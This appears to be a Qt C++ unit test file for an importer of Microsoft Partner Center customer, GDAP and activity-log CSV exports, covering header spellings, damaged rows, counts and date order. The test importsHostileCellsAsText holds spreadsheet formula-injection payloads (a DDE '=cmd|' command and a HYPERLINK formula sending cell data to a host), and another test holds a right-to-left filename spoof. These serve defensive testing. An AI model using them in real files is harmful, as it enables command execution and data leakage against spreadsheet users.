// SPDX-License-Identifier: GPL-3.0-or-later
// Tables with titles and without, whole and damaged.
#include "cellwords.h"
#include "dateorder.h"
#include "recordingsink.h"
#include "strictmain.h"
#include "textdoor.h"

using namespace attache;
using namespace Qt::StringLiterals;

class TablesTest : public QObject
{
    Q_OBJECT

private slots:
    STRICT_TEST

    void recognisesTitlesInAnySpelling_data();
    void recognisesTitlesInAnySpelling();
    void takesTheFirstLineAsDataWhereTitlesAreMissing_data();
    void takesTheFirstLineAsDataWhereTitlesAreMissing();
    void skipsWhatAReportPutsAboveItsTitles();
    void listsDamagedRowsAndShiftsNone_data();
    void listsDamagedRowsAndShiftsNone();
    void ignoresColumnsItDoesNotKnow();
    void takesTheColumnsTheUserChose();
    void saysWhichColumnIsMissing();
    void cleansNames_data();
    void cleansNames();
    void importsHostileCellsAsText();
    void readsCounts_data();
    void readsCounts();
    void decidesTheOrderOfDayAndMonth_data();
    void decidesTheOrderOfDayAndMonth();
    void ordersDatesOfAFile_data();
    void ordersDatesOfAFile();
};

namespace {

const QByteArray A = "6f9619ff-8b86-d011-b42d-00cf4fc964ff";
const QByteArray B = "00000000-0000-4000-8000-000000000002";

QByteArray list(const QByteArray &rows)
{
    return "Microsoft ID,Company name,Primary domain name,Relationship\n" + rows;
}

} // namespace

void TablesTest::recognisesTitlesInAnySpelling_data()
{
    QTest::addColumn<QString>("titles");
    QTest::newRow("upper case") << u"MICROSOFT ID;COMPANY NAME;PRIMARY DOMAIN NAME"_s;
    QTest::newRow("no-break blanks")
        << u"Microsoft\u00a0ID;Company\u00a0name;Primary\u202fdomain\u00a0name"_s;
    QTest::newRow("blanks around") << u" Microsoft ID ; Company name ;Primary domain name  "_s;
    QTest::newRow("mark inside quotes")
        << u"\"\ufeffMicrosoft ID\";\"Company name\";\"Primary domain name\""_s;
    QTest::newRow("no accents") << u"ID de locataire;Nom de la societe;Domaine principal"_s;
    QTest::newRow("decomposed accents")
        << u"ID Microsoft;Nom de la socie\u0301te\u0301;Nom de domaine principal"_s;
    QTest::newRow("straight apostrophe") << u"ID Microsoft;Nom de l'entreprise;Domaine"_s;
    QTest::newRow("umlauts spelled out") << u"Microsoft-ID;Firmenname;Primaerer Domaenenname"_s;
    QTest::newRow("Pascal") << u"CustomerTenantId;CompanyName;DefaultDomainName"_s;
    QTest::newRow("snake") << u"customer_tenant_id;company_name;domain_name"_s;
    QTest::newRow("more words")
        << u"Tenant ID of the customer (GUID);Company name *;Domain [main]"_s;
    QTest::newRow("one title unknown") << u"Microsoft ID;Company name;Webadresse"_s;
    QTest::newRow("id title unknown") << u"Kennzeichen;Company name;Domain"_s;
    QTest::newRow("two titles unknown") << u"Foo;Company name;Bar"_s;
    QTest::newRow("all titles unknown") << u"Identificador;Nombre;Dominio"_s;
    QTest::newRow("Japanese")
        << u"\u8b58\u5225\u5b50;\u4f1a\u793e\u540d;\u30c9\u30e1\u30a4\u30f3"_s;
    QTest::newRow("short titles") << u"ID;Name;Domain"_s;
    QTest::newRow("German words") << u"Mandanten-ID;Kunde;Standarddom\u00e4ne"_s;
    QTest::newRow("French words") << u"Identifiant du locataire;Client;Domaine par d\u00e9faut"_s;
    QTest::newRow("mixed languages") << u"Tenant ID;Firmenname;Domaine principal"_s;
}

void TablesTest::recognisesTitlesInAnySpelling()
{
    QFETCH(QString, titles);
    TestFiles files;
    for (const QChar separator : u";,\t"_s) {
        QString text = titles + u"\r\n"_s + QString::fromLatin1(A)
            + u";Contoso AG;contoso.example\r\n" + QString::fromLatin1(B)
            + u";Fabrikam SA;fabrikam.example\r\n";
        text.replace(u';', separator);
        const ImportRun run = importFile(files.write(u"list.csv"_s, text.toUtf8()));
        QVERIFY2(run.isGood(), qPrintable(run.error.code));
        QCOMPARE(run.reasons(), QString());
        QCOMPARE(run.sink.customers.size(), 2);
        QCOMPARE(run.sink.customers[0].tenant, tenant(A.constData()));
        QCOMPARE(run.sink.customers[0].name, u"Contoso AG"_s);
        QCOMPARE(run.sink.customers[0].domain, u"contoso.example"_s);
        QCOMPARE(run.profile.headerLine, 1);
    }
}

void TablesTest::takesTheFirstLineAsDataWhereTitlesAreMissing_data()
{
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<QString>("format");
    QTest::addColumn<int>("read");
    const QByteArray pair = A + "-" + B;
    QTest::newRow("customer list") << QByteArray(A + ";Contoso;contoso.example;Reseller\n" + B
                                                 + ";Fabrikam;fabrikam.example;Advisor\n")
                                   << u"partnerCenterCustomers"_s << 2;
    QTest::newRow("customer list of one row")
        << QByteArray(A + ";Contoso;contoso.example;Reseller\n") << u"partnerCenterCustomers"_s
        << 1;
    QTest::newRow("customer list in another order") << QByteArray(
        "contoso.example,Contoso Ltd," + A + "\nfabrikam.example,Fabrikam Inc," + B + "\n")
                                                    << u"partnerCenterCustomers"_s << 2;
    QTest::newRow("ids and names only")
        << QByteArray(A + ",Contoso\n" + B + ",Fabrikam\n") << u"partnerCenterCustomers"_s << 2;
    QTest::newRow("NCE tool") << QByteArray(A + ",contoso.example,Contoso\n" + B
                                            + ",fabrikam.example,Fabrikam\n")
                              << u"nceCustomers"_s << 2;
    QTest::newRow("activity log") << QByteArray(
        "2026-01-02 03:04:05,Contoso,Update subscription,a@partner.example\n"
        "2026-01-03 03:04:05,Fabrikam,Add customer,b@partner.example\n")
                                  << u"partnerCenterActivity"_s << 2;
    QTest::newRow("GDAP customers")
        << QByteArray("GDAP_1," + ourTenantText().toLatin1() + "," + A + ",Contoso,730\nGDAP_2,"
                      + ourTenantText().toLatin1() + "," + B + ",Fabrikam,365\n")
        << u"gdapCustomers"_s << 2;
    QTest::newRow("relationships")
        << QByteArray(pair + ",,GDAP_1," + ourTenantText().toLatin1() + ",Contoso," + A
                      + ",730,Active,2025-01-01,2025-01-02,2025-01-02,2027-01-01\n")
        << u"gdapRelationships"_s << 1;
    QTest::newRow("privileges to end")
        << QByteArray(ourTenantText().toLatin1() + "," + A + ",Contoso\n"
                      + ourTenantText().toLatin1() + "," + B + ",Fabrikam\n")
        << u"dapCustomers"_s << 2;
    QTest::newRow("privileges ended")
        << QByteArray(A + ",Contoso,Success\n" + B + ",Fabrikam,Failed\n") << u"dapTerminated"_s
        << 2;
}

void TablesTest::takesTheFirstLineAsDataWhereTitlesAreMissing()
{
    QFETCH(QByteArray, bytes);
    QFETCH(QString, format);
    QFETCH(int, read);
    TestFiles files;
    const ImportRun run = importFile(files.write(u"list.csv"_s, bytes));
    QVERIFY2(run.isGood(), qPrintable(run.error.code));
    QCOMPARE(keyOf(run.profile.format), format);
    QCOMPARE(run.profile.headerLine, 0);
    QCOMPARE(run.tally.read, read);
    QCOMPARE(run.tally.dropped, 0);
    QCOMPARE(run.reasons(), QString());
    if (!run.sink.customers.isEmpty())
        QCOMPARE(run.sink.customers[0].name,
                 u"Contoso"_s
                     + (format == u"partnerCenterCustomers" && bytes.contains("Ltd") ? u" Ltd"_s
                                                                                     : QString()));
}

void TablesTest::skipsWhatAReportPutsAboveItsTitles()
{
    TestFiles files;
    const ImportRun run =
        importFile(files.write(u"list.csv"_s,
                               "Customer list\n\nExported on 1 November 2026;;;\n\n"
                               "Microsoft ID;Company name;Primary domain name;Relationship\n"
                                   + A + ";Contoso;contoso.example;Reseller\n"));
    QVERIFY2(run.isGood(), qPrintable(run.error.code));
    QCOMPARE(run.profile.headerLine, 5);
    QCOMPARE(run.tally.read, 1);
    QCOMPARE(run.sink.customers.at(0).name, u"Contoso"_s);
    QCOMPARE(run.reasons(), QString());
}

void TablesTest::listsDamagedRowsAndShiftsNone_data()
{
    QTest::addColumn<QByteArray>("rows");
    QTest::addColumn<QString>("reasons");
    QTest::addColumn<QString>("names");
    const QByteArray good = B + ",Good,good.example,Reseller\n";
    const auto row = [&](const char *name, const QByteArray &bytes, const char *reasons,
                         const char *names) {
        QTest::newRow(name) << QByteArray(bytes + good) << QString::fromLatin1(reasons)
                            << QString::fromUtf8(names);
    };
    row("good", A + ",Fine,fine.example,Reseller\n", "", "Fine|Good");
    row("id missing", ",Bad,bad.example,Reseller\n", "2:missingTenantId!", "Good");
    row("id malformed", A + "X,Bad,bad.example,Reseller\n", "2:malformedTenantId!", "Good");
    row("id without dashes", "6f9619ff8b86d011b42d00cf4fc964ff,Bad,bad.example,Reseller\n",
        "2:malformedTenantId!", "Good");
    row("id one digit short", A.chopped(1) + ",Bad,bad.example,Reseller\n", "2:malformedTenantId!",
        "Good");
    row("id with other dashes",
        QByteArray(A).replace("-", "\xE2\x80\x90") + ",Bad,bad.example,Reseller\n",
        "2:malformedTenantId!", "Good");
    row("id of zeros", "00000000-0000-0000-0000-000000000000,Bad,bad.example,Reseller\n",
        "2:malformedTenantId!", "Good");
    row("id with a line end", "\"" + A + "\n\",Bad,bad.example,Reseller\n", "2:malformedTenantId!",
        "Good");
    row("id in braces and capitals", "{" + A.toUpper() + "},Fine,fine.example,Reseller\n", "",
        "Fine|Good");
    row("id with blanks around", " " + A + "\t,Fine,fine.example,Reseller\n", "2:textCleaned",
        "Fine|Good");
    row("domain malformed", A + ",Fine,fine.example/evil,Reseller\n", "2:malformedDomain",
        "Fine|Good");
    row("domain with blanks inside", A + ",Fine,fine example,Reseller\n", "2:malformedDomain",
        "Fine|Good");
    row("relationship unknown", A + ",Fine,fine.example,Buddy\n", "2:unknownValue", "Fine|Good");
    row("relationship unknown twice",
        A + ",Fine,fine.example,Buddy\n00000000-0000-4000-8000-000000000003,Too,x.example,Buddy\n",
        "2:unknownValue", "Fine|Too|Good");
    row("name missing", A + ",,fine.example,Reseller\n", "", "|Good");
    row("row too short, cells in place", A + ",Fine,fine.example\n", "2:tooFewColumns",
        "Fine|Good");
    row("row too short, name missing", A + ",bad.example,Reseller\n", "2:tooFewColumns!", "Good");
    row("row of one cell", "end of list\n", "2:tooFewColumns!", "Good");
    row("row too long, unquoted comma", A + ",Bad, Ltd,bad.example,Reseller\n", "2:tooManyColumns!",
        "Good");
    row("row too long, cells in place", A + ",Fine,fine.example,Reseller,x\n", "2:tooManyColumns",
        "Fine|Good");
    row("separators after the row", A + ",Fine,fine.example,Reseller,,,\n", "", "Fine|Good");
    row("blank lines between",
        "\n\n" + A + ",Fine,fine.example,Reseller\n,,,\n\"\",\"\",\"\",\"\"\n", "", "Fine|Good");
    row("the same customer twice",
        A + ",First,fine.example,Reseller\n" + A.toUpper() + ",Second,fine.example,Reseller\n",
        "3:duplicateRow", "First|Second|Good");
    row("the line of a quoted line end", A + ",\"Two\nlines\",fine.example,Reseller\nx,y,z,w\n",
        "2:textCleaned 4:malformedTenantId!", "Two lines|Good");
    row("titles repeated in the middle",
        "Microsoft ID,Company name,Primary domain name,Relationship\n", "2:malformedTenantId!",
        "Good");
}

void TablesTest::listsDamagedRowsAndShiftsNone()
{
    QFETCH(QByteArray, rows);
    QFETCH(QString, reasons);
    QFETCH(QString, names);
    TestFiles files;
    const ImportRun run = importFile(files.write(u"list.csv"_s, list(rows)));
    QVERIFY2(run.isGood(), qPrintable(run.error.code));
    QCOMPARE(run.reasons(), reasons);
    QStringList found;
    for (const CustomerFacts &facts : run.sink.customers)
        found.append(facts.name);
    QCOMPARE(found.join(u'|'), names);
    QCOMPARE(run.tally.dropped, reasons.count(u'!'));
    QCOMPARE(run.tally.read, found.size() + run.tally.dropped);
}

void TablesTest::ignoresColumnsItDoesNotKnow()
{
    TestFiles files;
    const ImportRun run = importFile(
        files.write(u"list.csv"_s,
                    "Rank;Microsoft ID;Company name;Company name;Color;Domain;;Relationship\n1;" + A
                        + ";Contoso;Other;red;contoso.example;x;Reseller\n2;" + B
                        + ";Fabrikam;Other;blue;fabrikam.example;y;Reseller\n"));
    QVERIFY2(run.isGood(), qPrintable(run.error.code));
    QCOMPARE(run.sink.customers.at(0).name, u"Contoso"_s);
    QCOMPARE(run.sink.customers.at(1).domain, u"fabrikam.example"_s);
    QCOMPARE(run.profile.columns.size(), 8);
    QCOMPARE(run.profile.columns.count(ImportField::CompanyName), 1);
    QCOMPARE(run.profile.columns.at(0), ImportField::None);
    QCOMPARE(run.profile.columns.at(4), ImportField::None);
    QCOMPARE(run.profile.header.at(4), u"Color"_s);
    QCOMPARE(run.profile.sample.size(), 2);
}

void TablesTest::takesTheColumnsTheUserChose()
{
    TestFiles files;
    const QString path =
        files.write(u"list.csv"_s, "a,b,c\nContoso,Other name," + A + "\nFabrikam,Old," + B + "\n");
    ImportChoices choices;
    choices.columns = {ImportField::None, ImportField::CompanyName, ImportField::TenantId};
    const ImportRun run = importFile(path, choices);
    QVERIFY2(run.isGood(), qPrintable(run.error.code));
    QCOMPARE(run.sink.customers.at(0).name, u"Other name"_s);
    choices = {};
    choices.format = ImportFormat::PartnerCenterCustomers;
    QCOMPARE(importFile(path, choices).sink.customers.size(), 2);
}

void TablesTest::saysWhichColumnIsMissing()
{
    TestFiles files;
    const ImportRun run = importFile(files.write(
        u"list.csv"_s, "Company name;Primary domain name;Relationship\nA;a.example;Reseller\n"));
    QCOMPARE(run.error.code, u"import.columnMissing"_s);
    QCOMPARE(run.error.arguments, QStringList{u"tenantId"_s});
    QCOMPARE(keyOf(run.profile.format), u"partnerCenterCustomers"_s);
}

void TablesTest::cleansNames_data()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<QString>("stored");
    QTest::addColumn<QString>("reasons");
    QTest::newRow("markup") << u"<b>Acme</b>"_s << u"<b>Acme</b>"_s << u""_s;
    QTest::newRow("direction marks")
        << u"Contoso\u202efdp.exe"_s << u"Contoso\u202efdp.exe"_s << u""_s;
    QTest::newRow("control") << u"A\u0007B"_s << u"A B"_s << u"2:textCleaned"_s;
    QTest::newRow("line end") << u"A\nB"_s << u"A B"_s << u"2:textCleaned"_s;
    QTest::newRow("too long") << QString(3000, u'x') << QString(MaxFieldLength, u'x')
                              << u"2:textCut"_s;
    QTest::newRow("placeholders") << u"Acme %1 %2"_s << u"Acme %1 %2"_s << u""_s;
}

void TablesTest::cleansNames()
{
    QFETCH(QString, name);
    QFETCH(QString, stored);
    QFETCH(QString, reasons);
    TestFiles files;
    const ImportRun run = importFile(
        files.write(u"list.csv"_s, list(A + ",\"" + name.toUtf8() + "\",a.example,Reseller\n")));
    QCOMPARE(run.sink.customers.at(0).name, stored);
    QCOMPARE(run.reasons(), reasons);
    for (const ImportProblem &problem : run.problems) {
        QCOMPARE(problem.column, u"Company name"_s);
        QVERIFY(problem.text.size() <= 200);
        QVERIFY(!problem.rowDropped);
    }
}

void TablesTest::importsHostileCellsAsText()
{
    TestFiles files;
    const ImportRun run = importFile(
        files.write(u"list.csv"_s,
                    "Microsoft ID,Company name,Primary domain name,\"=cmd|'/C calc'!A0\"\n" + A
                        + ",\"=HYPERLINK(\"\"http://x/\"\"&A1)\",a.example,=1+1\n"));
    QVERIFY2(run.isGood(), qPrintable(run.error.code));
    QCOMPARE(run.sink.customers.at(0).name, u"=HYPERLINK(\"http://x/\"&A1)"_s);
    QCOMPARE(run.profile.header.at(3), u"=cmd|'/C calc'!A0"_s);
}

void TablesTest::readsCounts_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<qint64>("count");
    const auto row = [](const char16_t *text, qint64 count) {
        const QString cell = QString::fromUtf16(text);
        QTest::newRow(qPrintable(cell)) << cell << count;
    };
    row(u"0", 0);
    row(u"25", 25);
    row(u" 25 ", 25);
    row(u"1.234", 1234);
    row(u"1,234", 1234);
    row(u"1 234", 1234);
    row(u"1\u00a0234", 1234);
    row(u"1\u202f234\u202f567", 1234567);
    row(u"1'234", 1234);
    row(u"1\u2019234", 1234);
    row(u"1.234.567", 1234567);
    row(u"25,00", 25);
    row(u"25.0", 25);
    row(u"1.234,00", 1234);
    row(u"1,234.00", 1234);
    row(u"00123", 123);
    row(u"9007199254740993", 9007199254740993);
    row(u"9223372036854775807", 9223372036854775807);
    row(u"9223372036854775808", -1);
    row(u"12,5", -1);
    row(u"1.234,56", -1);
    row(u"1.23.456", -1);
    row(u"12.34", -1);
    row(u"1,234,5", -1);
    row(u"-5", -1);
    row(u"1e5", -1);
    row(u"0x10", -1);
    row(u"NaN", -1);
    row(u"inf", -1);
    row(u"five", -1);
    row(u".5", -1);
    row(u"5.", -1);
    row(u"", -1);
}

void TablesTest::readsCounts()
{
    QFETCH(QString, text);
    QFETCH(qint64, count);
    QCOMPARE(countOfText(text).value_or(-1), count);
}

void TablesTest::decidesTheOrderOfDayAndMonth_data()
{
    QTest::addColumn<QStringList>("cells");
    QTest::addColumn<int>("language");
    QTest::addColumn<bool>("monthFirst");
    QTest::addColumn<bool>("isGuess");
    const int en = int(HeaderLanguage::English);
    const int fr = int(HeaderLanguage::French);
    const int none = int(HeaderLanguage::Unknown);
    QTest::newRow("day above 12") << QStringList{u"3/4/2026"_s, u"13/4/2026"_s} << en << false
                                  << false;
    QTest::newRow("month second above 12")
        << QStringList{u"3/4/2026"_s, u"4/13/2026"_s} << fr << true << false;
    QTest::newRow("points") << QStringList{u"3.4.2026"_s} << en << false << false;
    QTest::newRow("open, English") << QStringList{u"3/4/2026"_s} << en << true << true;
    QTest::newRow("open, French") << QStringList{u"3/4/2026"_s} << fr << false << true;
    QTest::newRow("open, unknown") << QStringList{u"3/4/2026"_s} << none << false << true;
    QTest::newRow("open, with PM") << QStringList{u"3/4/2026 5:06 PM"_s} << none << true << true;
    QTest::newRow("same either way") << QStringList{u"4/4/2026"_s} << en << false << false;
    QTest::newRow("ISO") << QStringList{u"2026-03-04"_s} << en << false << false;
    QTest::newRow("none") << QStringList{u""_s, u"soon"_s} << en << false << false;
}

void TablesTest::decidesTheOrderOfDayAndMonth()
{
    QFETCH(QStringList, cells);
    QFETCH(int, language);
    QFETCH(bool, monthFirst);
    QFETCH(bool, isGuess);
    const DateOrderGuess guess = guessDateOrder(cells, HeaderLanguage(language));
    QCOMPARE(guess.monthFirst, monthFirst);
    QCOMPARE(guess.isGuess, isGuess);
}

void TablesTest::ordersDatesOfAFile_data()
{
    QTest::addColumn<QString>("titles");
    QTest::addColumn<QStringList>("dates");
    QTest::addColumn<QString>("expected");
    QTest::addColumn<QString>("reasons");
    const QString en = u"Date/Time;Affected customer;Action;Partner user"_s;
    const QString fr = u"Date/Heure;Client concern\u00e9;Action;Utilisateur partenaire"_s;
    const QString de = u"Datum/Uhrzeit;Betroffener Kunde;Aktion;Partnerbenutzer"_s;
    QTest::newRow("ISO") << en << QStringList{u"2026-03-04T05:06:07Z"_s, u"2026-03-05 05:06"_s}
                         << u"2026-03-04T05:06:07Z 2026-03-05T05:06:00Z"_s << u""_s;
    QTest::newRow("German") << de << QStringList{u"04.03.2026 05:06:07"_s, u"5.3.2026, 05:06 Uhr"_s}
                            << u"2026-03-04T05:06:07Z 2026-03-05T05:06:00Z"_s << u""_s;
    QTest::newRow("French") << fr
                            << QStringList{u"04/03/2026 05:06:07"_s, u"31/03/2026 \u00e0 05:06"_s}
                            << u"2026-03-04T05:06:07Z 2026-03-31T05:06:00Z"_s << u""_s;
    QTest::newRow("French, open") << fr << QStringList{u"04/03/2026 05:06:07"_s}
                                  << u"2026-03-04T05:06:07Z"_s << u"2:ambiguousDate"_s;
    QTest::newRow("American") << en
                              << QStringList{u"3/4/2026 5:06:07 AM"_s,
                                             u"3/31/2026 5:06\u202fPM (UTC)"_s}
                              << u"2026-03-04T05:06:07Z 2026-03-31T17:06:00Z"_s << u""_s;
    QTest::newRow("American, open")
        << en << QStringList{u"3/4/2026 5:06:07 AM"_s, u"3/5/2026 1:00 PM"_s}
        << u"2026-03-04T05:06:07Z 2026-03-05T13:00:00Z"_s << u"2:ambiguousDate"_s;
    QTest::newRow("British titles are English, days decide")
        << en << QStringList{u"04/03/2026 05:06"_s, u"13/03/2026 05:06"_s}
        << u"2026-03-04T05:06:00Z 2026-03-13T05:06:00Z"_s << u""_s;
    QTest::newRow("dashes") << de << QStringList{u"04-03-2026 05:06"_s, u"13-03-2026"_s}
                            << u"2026-03-04T05:06:00Z 2026-03-13T00:00:00Z"_s << u""_s;
    QTest::newRow("year first with slashes")
        << en << QStringList{u"2026/03/04 05:06:07"_s} << u"2026-03-04T05:06:07Z"_s << u""_s;
    QTest::newRow("unreadable") << de << QStringList{u"30.02.2026"_s, u"05.03.2026"_s}
                                << u"2026-03-05T00:00:00Z"_s << u"2:unreadableDate!"_s;
    QTest::newRow("missing") << de << QStringList{u""_s, u"05.03.2026"_s}
                             << u"2026-03-05T00:00:00Z"_s << u"2:missingValue!"_s;
}

void TablesTest::ordersDatesOfAFile()
{
    QFETCH(QString, titles);
    QFETCH(QStringList, dates);
    QFETCH(QString, expected);
    QFETCH(QString, reasons);
    QString text = titles + u'\n';
    for (const QString &date : dates)
        text += date + u";Contoso;Add customer;a@partner.example\n"_s;
    TestFiles files;
    const ImportRun run = importFile(files.write(u"log.csv"_s, text.toUtf8()));
    QVERIFY2(run.isGood(), qPrintable(run.error.code));
    QStringList found;
    for (const ActivityRecord &record : run.sink.activities)
        found.append(record.at.toIso());
    QCOMPARE(found.join(u' '), expected);
    QCOMPARE(run.reasons(), reasons);
    if (reasons.contains(u"ambiguous"_s)) {
        QVERIFY(run.profile.monthFirstIsGuess);
        ImportChoices choices;
        choices.monthFirst = !run.profile.monthFirst;
        const ImportRun chosen = importFile(run.profile.path, choices);
        QVERIFY(!chosen.profile.monthFirstIsGuess);
        QVERIFY(chosen.sink.activities.at(0).at != run.sink.activities.at(0).at);
    }
}

QTEST_GUILESS_MAIN(TablesTest)
#include "tst_tables.moc"
